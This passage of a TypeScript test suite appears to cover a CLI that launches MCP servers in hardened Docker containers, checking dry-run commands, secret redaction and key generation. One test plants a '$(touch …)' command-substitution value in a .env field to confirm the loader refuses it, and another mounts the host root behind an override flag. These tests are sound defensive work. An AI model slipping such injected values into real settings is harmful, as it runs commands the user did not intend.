      assert.ok(!result.stderr.includes('unexpected error'), `not reported as a bug${context}`);
      assert.equal(existsSync(box.marker), false, `docker must not have been run${context}`);
      // No secret from the file is ever echoed back.
      assert.ok(!result.stderr.includes(TOKEN) && !result.stdout.includes(TOKEN), 'the token is not printed');
    });
  }
});

describe('bad settings through loadSettings: a UsageError (exit code 2) naming the variable', () => {
  for (const c of LOAD_CASES) {
    it(c.name, () => {
      assert.equal(c.command ?? 'start', 'start');
      assert.equal(c.extraArgs, undefined);
      const box = sandbox(c.env);
      c.setup?.(box.dir);
      const envFile = c.envFileName ? join(box.dir, c.envFileName) : box.envFile;
      const expected = typeof c.expect === 'function' ? c.expect(box.dir) : c.expect;
      assert.throws(
        () => loadSettings(envFile, { hostEnv: { HOME: box.env.HOME, ...c.childEnv }, projectDir: repoRoot }),
        (error: unknown) => {
          assert.ok(error instanceof UsageError, `a UsageError, not ${String(error)}`);
          assert.equal(error.exitCode, 2);
          for (const text of expected) assert.ok(error.message.includes(text), `${JSON.stringify(text)} in ${error.message}`);
          assert.ok(!error.message.includes(TOKEN), 'the token is not in the message');
          return true;
        },
      );
    });
  }
});

describe('valid settings', { concurrency: 4 }, () => {
  it('build needs no runtime secret: a tunnel template builds without its tokens, while start still refuses', async () => {
    for (const template of ['ngrok', 'pinggy', 'nginx']) {
      const box = sandbox(`TEMPLATE=${template}\nNAME=mcp-${template}-build\n`);
      const built = await runCli(['build', '--env-file', box.envFile, '--dry-run'], box);
      assert.equal(built.code, 0, `${template}: ${built.stderr}`);
      assert.ok(built.stdout.startsWith('docker build '), built.stdout);
      assert.ok(built.stdout.includes(` --build-arg TEMPLATE=${template} `), built.stdout);
      const started = await runCli(['start', '--env-file', box.envFile, '--dry-run'], box);
      assert.equal(started.code, 2, `${template}: ${started.stdout}`);
      assert.match(
        started.stderr,
        template === 'nginx' ? /ACCESS_TOKEN is missing/ : new RegExp(`${template.toUpperCase()}_(AUTHTOKEN|ACCESS_TOKEN) is not set`),
      );
      assert.equal(existsSync(box.marker), false, 'no docker command ran');
    }
  });

  it('start --dry-run prints the hardened docker run command without the token and runs nothing', async () => {
    const box = sandbox(`${OK}NAME=mcp-dry\nMCP_ENV=GH_PAT\nGH_PAT=ghp_dryrunsecretvalue\n`);
    const result = await runCli(['start', '--env-file', box.envFile, '--dry-run'], box);
    assert.equal(result.code, 0, result.stderr);
    const command = result.stdout.trim();
    assert.ok(command.startsWith('docker run --name mcp-dry --rm '), command);
    assert.ok(command.includes(' --cap-drop ALL '), command);
    assert.ok(command.includes(` --security-opt no-new-privileges --security-opt seccomp=${join(repoRoot, 'profiles', 'seccomp.json')} --read-only `), command);
    assert.ok(command.includes(' --ulimit core=0 '), command);
    assert.ok(command.includes(' --publish 127.0.0.1:443:8443 '), command);
    assert.ok(command.includes(' --env ACCESS_TOKEN '), command);
    // GH_PAT's value goes to the server in a file (the read-only volume), never through --env.
    assert.ok(!command.includes(' --env GH_PAT '), command);
    assert.ok(command.includes(' --volume mcp-dry-server-env:/etc/mcp-sandbox/server-env:ro '), command);
    assert.ok(command.endsWith(' mcp-dry:latest'), command);
    assert.ok(!result.stdout.includes(TOKEN) && !result.stderr.includes(TOKEN), 'no token in the output');
    assert.ok(!result.stdout.includes('ghp_dryrunsecretvalue'), 'no MCP_ENV value in the output');
    assert.equal(existsSync(box.marker), false);
  });

  it('start -d --dry-run with --allow-dangerous-mounts accepts a dangerous mount and shows it', async () => {
    const box = sandbox(`${OK}MCP_MOUNTS=/:/host\n`);
    const result = await runCli(['start', '--env-file', box.envFile, '--dry-run', '-d', '--allow-dangerous-mounts'], box);
    assert.equal(result.code, 0, result.stderr);
    assert.ok(result.stdout.includes(' --detach --restart unless-stopped '), result.stdout);
    assert.ok(result.stdout.includes(' --mount type=bind,source=/,target=/host,readonly '), result.stdout);
    assert.equal(existsSync(box.marker), false);
  });

  it('build --dry-run prints docker build with build arguments only', async () => {
    const box = sandbox(OK);
    const result = await runCli(['build', '--env-file', box.envFile, '--dry-run', '--no-cache'], box);
    assert.equal(result.code, 0, result.stderr);
    const command = result.stdout.trim();
    assert.ok(command.startsWith('docker build --force-rm --file '), command);
    assert.ok(command.includes(' --tag mcp-sandbox:latest '), command);
    assert.ok(command.includes(' --no-cache '), command);
    assert.ok(command.includes(' --build-arg MCP_SERVER=npm:@modelcontextprotocol/server-filesystem@2026.8.31 '), command);
    assert.ok(!command.includes('ACCESS_TOKEN') && !command.includes(TOKEN), command);
    assert.equal(existsSync(box.marker), false);
  });

  it('start without --dry-run does reach the fake docker, the token only through its environment', async () => {
    // Proves the harness: the absent marker above means "not run", not "not found".
    const box = sandbox(OK);
    const result = await runCli(['start', '--env-file', box.envFile], box);
    assert.equal(result.code, 0, result.stderr);
    assert.ok(existsSync(box.marker));
    const calls = readFileSync(box.marker, 'utf8').trim().split('\n');
    assert.deepEqual(calls.slice(0, 5), [
      // Which engine answers (Docker here: the fake prints nothing), for Podman's few differences.
      'version --format {{json .}}',
      'image inspect --format {{.Id}} mcp-sandbox:latest',
      'ps --all --quiet --filter name=^/?mcp-sandbox$',
      'network ls --quiet --filter name=^mcp-sandbox-net$',
      'network create --label io.mcp-sandbox.instance=mcp-sandbox mcp-sandbox-net',
    ]);
    // No MCP_ENV: the volume of the server's variables is looked for before the run and after it (attached), never written.
    assert.equal(calls.length, 8);
    assert.equal(calls[5], 'volume ls --quiet --filter name=^mcp-sandbox-server-env$');
    assert.ok(calls[6]!.startsWith('run --name mcp-sandbox --rm '), calls[6]);
    assert.ok(calls[6]!.includes('--env ACCESS_TOKEN'));
    assert.equal(calls[7], 'volume ls --quiet --filter name=^mcp-sandbox-server-env$');
    assert.ok(!readFileSync(box.marker, 'utf8').includes(TOKEN), 'the token is not on the docker command line');
    assert.equal(readFileSync(box.tokenSeen, 'utf8'), TOKEN, 'the docker client received the token in its environment');
  });
});

describe('gen_key', { concurrency: 4 }, () => {
  it('-s 8 exits 2 and says why', async () => {
    const box = sandbox();
    const result = await runCli(['gen_key', '-s', '8'], box);
    assert.equal(result.code, 2);
    assert.ok(result.stderr.includes('--size must be at least 16 bytes (32 hex characters)'), result.stderr);
    assert.equal(result.stdout, '');
  });

  it('-s abc exits 2', async () => {
    const result = await runCli(['gen_key', '-s', 'abc'], sandbox());
    assert.equal(result.code, 2);
    assert.ok(result.stderr.includes('--size must be a number of bytes'), result.stderr);
  });

  it('prints 64 hex characters by default, a new key each time', async () => {
    const box = sandbox();
    const [a, b] = await Promise.all([runCli(['gen_key'], box), runCli(['gen_key'], box)]);
    for (const r of [a, b]) {
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /^[0-9a-f]{64}\n$/);
    }
    assert.notEqual(a.stdout, b.stdout);
  });

  it('-s 16 prints 32 hex characters', async () => {
    const result = await runCli(['gen_key', '-s', '16'], sandbox());
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /^[0-9a-f]{32}\n$/);
  });

  it('-f FILE writes mode 0600, refuses to overwrite without --force, and --force replaces it with mode 0600', async () => {
    const box = sandbox();
    const file = join(box.dir, 'token.txt');
    const first = await runCli(['gen_key', '-f', file], box);
    assert.equal(first.code, 0, first.stderr);
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const key = readFileSync(file, 'utf8');
    assert.match(key, /^[0-9a-f]{64}\n$/);
    assert.ok(!first.stdout.includes(key.trim()), 'the key written to a file is not printed');

    const again = await runCli(['gen_key', '-f', file], box);
    assert.equal(again.code, 2);
    assert.ok(again.stderr.includes(`${file} already exists`), again.stderr);
    assert.ok(again.stderr.includes('--force'), again.stderr);
    assert.equal(readFileSync(file, 'utf8'), key, 'the file is left as it was');

    chmodSync(file, 0o644);
    const forced = await runCli(['gen_key', '-f', file, '--force'], box);
    assert.equal(forced.code, 0, forced.stderr);
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const replaced = readFileSync(file, 'utf8');
    assert.match(replaced, /^[0-9a-f]{64}\n$/);
    assert.notEqual(replaced, key);
  });
});

describe('reading .env runs nothing', () => {
  it('a $(command) value is refused and the command never runs; a single-quoted one is literal', () => {
    const dir = mkdtempSync(join(root, 'subst-'));
    const witness = join(dir, 'command-ran');
    const envFile = join(dir, '.env');
    writeFileSync(envFile, `${OK}NPM_MCP_ARGS=$(touch ${witness})\n`);
    assert.throws(
      () => loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }),
      (error: unknown) => {
        assert.ok(error instanceof UsageError);
        assert.match(error.message, /line 2: "\$\(" would run a command/);
        return true;
      },
    );
    assert.equal(existsSync(witness), false, 'dotenvx ran the command');
    writeFileSync(envFile, `${OK}NPM_MCP_ARGS='$(touch ${witness})'\n`);
    assert.equal(loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }).MCP_SERVER_ARGS, `$(touch ${witness})`);
    assert.equal(existsSync(witness), false);
  });
});
